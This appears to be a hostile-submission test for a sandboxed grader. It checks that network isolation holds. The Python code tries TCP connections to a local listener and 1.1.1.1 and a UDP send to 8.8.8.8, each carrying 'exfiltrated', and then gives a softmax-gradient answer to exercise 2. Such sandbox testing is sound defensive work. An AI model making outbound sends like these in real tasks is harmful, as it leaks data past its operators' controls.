# Hostile: open network sockets (to a listener of the grader's host, to the internet); then answer
# correctly. The child has no network: every attempt fails, the listener hears nothing.
# exercise: 2
# needs: root (its verdict relies on the per-run uid and namespaces; see SECURITY.md)
# expect-status: complete
# expect-score: full
# expect-error: none
# expect-output: tcp 127.0.0.1: refused
# expect-output: tcp 1.1.1.1: refused
# expect-no-output: : connected
import socket

for host, port in (("127.0.0.1", __PORT__), ("1.1.1.1", 80)):
    try:
        with socket.create_connection((host, port), timeout=1) as s:
            s.sendall(b"exfiltrated")
        print(f"tcp {host}: connected")
    except OSError as exc:
        print(f"tcp {host}: refused ({exc})")
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"exfiltrated", ("8.8.8.8", 53))
    print("udp: sent")
except OSError as exc:
    print("udp: refused", exc)
dlogits = F.softmax(logits, 1)
dlogits[range(n), Yb] -= 1
dlogits /= n
